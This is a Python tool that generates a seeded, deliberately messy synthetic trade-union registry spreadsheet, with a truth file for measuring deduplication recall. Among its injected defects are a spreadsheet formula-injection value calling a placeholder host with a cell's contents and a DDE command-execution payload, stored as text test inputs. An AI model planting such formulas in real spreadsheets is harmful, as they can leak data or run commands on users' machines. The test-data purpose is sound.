"""`python -m tools.old_file OUT.xlsx --rows 5000 --seed 2026`: a legacy spreadsheet as messy as an office's own, seeded, with its truth beside it.

Names of real organisations (the demonstration's `real-unions.csv`) and of invented ones (`noisy`); every person, telephone, address,
number and date is invented, and the first sheet says so. `OUT.truth.csv` (sheet,row,entity) tells which lines are one
organisation, to measure recall. The same seed gives the same file, byte for byte.
"""

from __future__ import annotations

import csv
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta
from pathlib import Path
from random import Random
from typing import Any, Final

import click
import xlsxwriter

from registry.demonstration import names, people
from registry.law import places
from registry.law.calendar import long_date
from registry.law.terms import Kind
from tools import noisy

MAIN, ANNEX = "FICHIER GENERAL", "Annexe NW-SW"
HEADINGS: Final[dict[str, str]] = {
    "order": "N°", "number": "N° ENREG.", "name": "DÉNOMINATION DU SYNDICAT", "name_en": "DENOMINATION EN ANGLAIS", "acronym": "SIGLE",
    "kind": "FORME", "branch": "BRANCHE D'ACTIVITÉ", "region": "RÉGION", "departement": "DÉPARTEMENT", "town": "VILLE", "seat": "SIÈGE SOCIAL",
    "phone": "Tél.", "email": "E-mail", "president": "PRÉSIDENT(E)", "secretary": "SECRÉTAIRE GÉNÉRAL(E)", "founders": "MEMBRES FONDATEURS",
    "founded": "DATE DE CRÉATION", "registered": "DATE D'ENREG.", "statutes": "DATE DES STATUTS", "mandate": "FIN DE MANDAT",
    "notes": "OBSERVATIONS",
}  # fmt: skip
ENGLISH: Final[dict[str, str]] = {
    "order": "S/N", "name": "Name of the Union", "name_en": "English name", "acronym": "Abbreviation", "number": "Reg. No", "kind": "Type",
    "region": "Region", "town": "Town", "seat": "Address", "branch": "Sector", "president": "President", "secretary": "Secretary General",
    "phone": "Phone", "email": "E-mail", "registered": "Date of registration", "founded": "Date of creation", "mandate": "End of mandate",
    "notes": "Remarks",
}  # fmt: skip
_KINDS: Final = {
    Kind.SYNDICAT: ("Syndicat", "SYNDICAT", "synd. de base", ""), Kind.UNION: ("Union", "Union de syndicats"),
    Kind.FEDERATION: ("Fédération", "FEDERATION", "Fed."), Kind.CONFEDERATION: ("Confédération", "CONFEDERATION", "Centrale"),
}  # fmt: skip
#: Ten ways of writing a number, as offices have: serial, day.
NUMBERS: Final[tuple[Callable[[int, date], str], ...]] = (
    lambda n, d: f"SN/{n:02d} du {long_date(d).fr}".replace("\u00a0", " "),
    lambda n, _: f"{n:04d}/MINTSS/SG/GS",
    lambda n, d: f"N°{n:03d}/{d.year}",
    lambda n, d: f"CM/GS/{d.year}/{n:04d}",
    lambda n, _: f"{n:05d}",
    lambda n, d: f"REG-{d.year % 100:02d}-{n}",
    lambda n, d: f"n° {n} du {d:%d/%m/%Y}",
    lambda n, d: f"{d.year}-{n:04d}",
    lambda n, d: f"Certificat {n} / MTPS / {d.year}",
    lambda n, _: f"{n}",
)
Cells = dict[str, Any]


@dataclass
class Line:
    """One line of a sheet: its cells by column, and the organisation it tells of ("": none)."""

    cells: Cells
    entity: str
    defects: list[str] = field(default_factory=list)


def make(path: Path, *, rows: int = 5000, seed: int = 2026) -> Counter[str]:
    """Write the spreadsheet and its truth; how many lines bear each defect."""
    chance = Random(f"old file {seed}")
    groups = max(rows // 150, 1)
    lines = list(_lines(max(rows - 2 * groups, 1), seed, chance))
    chance.shuffle(lines)
    _share(lines, groups, chance)
    for line in lines:
        _spoil(line, chance)
    cut = max(len(lines) * 4 // 5, 1)
    return _written(path, lines[:cut], lines[cut:], seed, chance)


def _lines(rows: int, seed: int, chance: Random) -> Iterator[Line]:
    """The real names in each of their spellings, then invented organisations; so many lines."""
    count = 0
    for serial, line in enumerate(_real(chance)):
        if serial >= rows:
            return
        count += 1
        yield line
    if count < rows:
        for record, cluster in noisy.records(rows - count, seed=seed, noise=noisy.Noise(0.35), duplicates=0.25, layout="both"):
            yield Line(_from_noisy(record, chance), f"N{cluster}")


def _real(chance: Random) -> Iterator[Line]:
    spellings: dict[str, list[dict[str, str]]] = {}
    for row in people.table("real-unions"):
        spellings.setdefault(row["cluster_id"], []).append(row)
    for serial, real in enumerate(names.real_names(), start=11):
        town, day = chance.choice(places.towns()), date(1992, 8, 20) + timedelta(days=chance.randrange(10_000))
        facts: Cells = {
            "number": chance.choice(NUMBERS[:9])(serial, day), "kind": chance.choice(_KINDS[real.kind]), "registered": day,
            "branch": chance.choice(list(places.branches().values())).label.fr, "region": places.regions()[town.region].label.fr,
            "departement": places.departements()[town.code].label.fr, "town": town.label.fr, "seat": f"BP {chance.randrange(10, 9000)} {town.label.fr}",
            "phone": people.phone(chance), "president": people.person_name(chance), "secretary": people.person_name(chance),
            "founded": day - timedelta(days=chance.randrange(30, 400)), "statutes": day - timedelta(days=20), "acronym": real.acronym,
            "founders": ";".join(people.person_name(chance) for _ in range(3)), "mandate": date(2027, 1, 1) + timedelta(days=chance.randrange(900)),
        }  # fmt: skip
        for place, row in enumerate(spellings[real.cluster]):
            cells = dict(facts) if place == 0 or chance.random() < 0.5 else {k: v for k, v in facts.items() if chance.random() < 0.55}
            yield Line({**cells, "name": row["name"], "acronym": row["acronym"] or cells.get("acronym", "")}, f"R{real.cluster}")


def _from_noisy(record: dict[str, str], chance: Random) -> Cells:
    officers = [name for name in record["officers"].split(";") if name]
    cells: Cells = {
        "number": record["regno"], "name": record["name_fr"], "name_en": record["name_en"], "acronym": record["acronym"], "kind": record["kind"],
        "branch": record["branch"], "region": record["region"], "town": record["town"], "seat": record["address"], "phone": record["phone"],
        "email": record["email"], "founded": record["founded"], "president": officers[0] if officers else "",
        "secretary": officers[1] if len(officers) > 1 else "", "founders": ";".join(officers[2:]),
    }  # fmt: skip
    if not cells["name"] and chance.random() < 0.7:
        cells["name"], cells["name_en"] = cells["name_en"], ""
    if cells["number"] and chance.random() < 0.8:
        cells["registered"] = date(1992, 8, 20) + timedelta(days=chance.randrange(12_000))
        cells["statutes"] = cells["registered"] - timedelta(days=chance.randrange(10, 90))
    cells["mandate"] = date(2025, 1, 1) + timedelta(days=chance.randrange(1600))
    return cells


def _share(lines: list[Line], groups: int, chance: Random) -> None:
    """What several organisations have in common and should not: a number, a president, a telephone, an address, founders."""
    wanted = (
        ("number", "same number, two names", 2), ("president", "one president of several", 3), ("phone", "shared telephone", 3),
        ("seat", "shared address", 3), ("founders", "same founders", 2),
    )  # fmt: skip
    for column, defect, size in wanted:
        for _ in range(groups):
            givers = [line for line in chance.sample(lines, min(len(lines), 40)) if line.cells.get(column)]
            if givers:
                for line in chance.sample(lines, min(len(lines), size - 1)):
                    if line.entity != givers[0].entity:
                        line.cells[column] = givers[0].cells[column]
                        line.defects.append(defect)
    for line in chance.sample(lines, groups):
        twin = Line({**line.cells, "number": chance.choice(NUMBERS)(chance.randrange(1, 900), date(2011, 5, 3))}, line.entity)
        twin.defects.append("same name, two numbers")
        lines.insert(chance.randrange(len(lines)), twin)
    for line in chance.sample(lines, groups):
        lines.insert(chance.randrange(len(lines)), Line(dict(line.cells), line.entity, ["line repeated"]))


def _spoil(line: Line, chance: Random) -> None:
    """What the hand, the machine and the years did to a line."""
    for defect, share, do in _SPOILS:
        if chance.random() < share:
            do(line.cells, chance)
            line.defects.append(defect)
    for column in ("founded", "registered", "statutes", "mandate"):
        value = line.cells.get(column)
        if isinstance(value, date) and chance.random() < 0.6:
            line.cells[column] = _typed(value, chance)
    phone = line.cells.get("phone")
    if isinstance(phone, str) and phone.replace(" ", "").isdigit() and len(phone.replace(" ", "")) == 9 and chance.random() < 0.4:
        line.cells["phone"] = int(phone.replace(" ", ""))


def _typed(day: date, chance: Random) -> str | int:
    """A date that is not one for the machine: text in five ways, or a bare serial number."""
    ways: tuple[str | int, ...] = (
        f"{day:%d/%m/%Y}", f"{day:%d-%m-%y}", long_date(day).fr.replace("\u00a0", " "), f"{day:%d.%m.%Y}", f"{day.year}",
        (day - date(1899, 12, 30)).days,
    )  # fmt: skip
    return chance.choice(ways)


def _set(**values: Any) -> Callable[[Cells, Random], None]:
    return lambda cells, _chance: cells.update(values)


def _only_a_name(cells: Cells, _chance: Random) -> None:
    kept = {"name": cells.get("name") or cells.get("name_en") or "Syndicat sans autre précision"}
    cells.clear()
    cells.update(kept)


def _contradict(cells: Cells, _chance: Random) -> None:
    name = str(cells.get("name", ""))
    cells["kind"] = "Fédération" if name.lower().startswith("synd") else "Syndicat"


def _elsewhere(cells: Cells, chance: Random) -> None:
    cells["town"], cells["region"] = "Garoua", chance.choice(("Littoral", "Sud-Ouest", "Province du Centre"))


def _mojibake(cells: Cells, _chance: Random) -> None:
    for column in ("name", "town"):
        text = str(cells.get(column) or "")
        cells[column] = text.encode("utf-8").decode("cp1252", "ignore") if any(ord(letter) > 127 for letter in text) else text


def _break_line(cells: Cells, _chance: Random) -> None:
    cells["name"] = str(cells.get("name") or "Syndicat").replace(" ", "\n", 1)


def _old_number(cells: Cells, chance: Random) -> None:
    cells["number"] = chance.choice(NUMBERS)(chance.randrange(1, 9999), date(1994, 1, 3) + timedelta(days=chance.randrange(9000)))


def _shout(cells: Cells, _chance: Random) -> None:
    cells["name"] = str(cells.get("name") or "").upper()


_SPOILS: Final[tuple[tuple[str, float, Callable[[Cells, Random], None]], ...]] = (
    ("old number rewritten", 0.06, _old_number),
    ("capital letters", 0.1, _shout),
    ("impossible date", 0.01, _set(founded="31/02/2011")),
    ("branch missing", 0.06, _set(branch="")),
    ("kind contradicts the name", 0.02, _contradict),
    ("town not in the region", 0.015, _elsewhere),
    ("expired mandate", 0.08, _set(mandate=date(2014, 6, 30))),
    ("no statutes", 0.12, _set(statutes="")),
    ("looks like a formula", 0.006, _set(notes='=HYPERLINK("http://exemple.invalid/?"&A1,"ouvrir")')),
    ("looks like a command", 0.004, _set(notes="=cmd|' /C calc'!A0")),
    ("leading zeros", 0.01, _set(number="000417")),
    ("line break in the name", 0.012, _break_line),
    ("mojibake", 0.012, _mojibake),
    ("only a name", 0.02, _only_a_name),
    ("no name", 0.006, _set(name="", name_en="", acronym="")),
)


def _written(path: Path, main: list[Line], annex: list[Line], seed: int, chance: Random) -> Counter[str]:
    defects: Counter[str] = Counter()
    options = {"constant_memory": True, "strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}
    with xlsxwriter.Workbook(path, options) as book, path.with_suffix(".truth.csv").open("w", encoding="utf-8", newline="") as told:
        book.set_properties({"title": "Fichier syndical (inventé)", "created": datetime(2019, 12, 31)})  # noqa: DTZ001 - as Excel keeps it
        day_format = book.add_format({"num_format": "dd/mm/yyyy"})
        truth = csv.writer(told)
        truth.writerow(("sheet", "row", "entity"))
        _read_me(book.add_worksheet("Lisez-moi"), seed)
        for name, lines, headings, titles in (
            (
                MAIN,
                main,
                HEADINGS,
                ("MINISTERE DU TRAVAIL ET DE LA SECURITE SOCIALE", "GREFFE DES SYNDICATS", "Fichier syndical au 31/12/2019"),
            ),
            (ANNEX, annex, ENGLISH, ("Trade unions, North-West and South-West",)),
        ):
            sheet = book.add_worksheet(name)
            for row, entity, found in _sheet_rows(sheet, lines, headings, titles, day_format, chance):
                truth.writerow((name, row, entity))
                defects.update(found)
    return defects


def _read_me(sheet: Any, seed: int) -> None:
    for at, words in enumerate((
        "Fichier de démonstration : noms d'organisations réels ou inventés ; personnes, adresses, téléphones, numéros et dates tous inventés.",
        "Demonstration file: names of organisations real or invented; persons, addresses, telephones, numbers and dates all invented.",
        f"Graine / seed: {seed}",
    )):  # fmt: skip
        sheet.write_string(at, 0, words)


def _sheet_rows(
    sheet: Any, lines: list[Line], headings: dict[str, str], titles: tuple[str, ...], day_format: Any, chance: Random
) -> Iterator[tuple[int, str, list[str]]]:
    """Write titles, headings and lines, with blank, repeated and total lines among them; (row, entity, defects)."""
    at = 0
    for words in titles:
        sheet.write_string(at, 1, words)
        at += 1
    at += 1  # a blank line before the headings
    _write(sheet, at, list(headings.values()), day_format)
    for order, line in enumerate(lines, start=1):
        at += 1
        if chance.random() < 0.004:
            at += chance.randint(1, 2)  # blank lines, as merged cells leave
        if chance.random() < 0.0015:
            _write(sheet, at, list(headings.values()), day_format)
            at += 1
        _write(sheet, at, [order if name == "order" else line.cells.get(name, "") for name in headings], day_format)
        yield at + 1, line.entity, line.defects
    _write(sheet, at + 2, ["TOTAL", str(len(lines))], day_format)


def _write(sheet: Any, at: int, cells: list[Any], day_format: Any) -> None:
    for column, value in enumerate(cells):
        if isinstance(value, date):
            sheet.write_datetime(at, column, datetime(value.year, value.month, value.day), day_format)  # noqa: DTZ001 - a day, not an instant
        elif isinstance(value, int):
            sheet.write_number(at, column, value)
        elif value:
            sheet.write_string(at, column, str(value)[:32_000])


@click.command()
@click.argument("path", type=click.Path(dir_okay=False, path_type=Path))
@click.option("--rows", default=5000, type=click.IntRange(10, 200_000), show_default=True, help="Lines of the spreadsheet.")
@click.option("--seed", default=2026, show_default=True)
def main(path: Path, rows: int, seed: int) -> None:
    """Write a messy legacy spreadsheet, and its truth beside it."""
    defects = make(path, rows=rows, seed=seed)
    click.echo(f"{path}: {rows} lines (seed {seed}); " + ", ".join(f"{name}: {count}" for name, count in sorted(defects.items())))


if __name__ == "__main__":
    main()
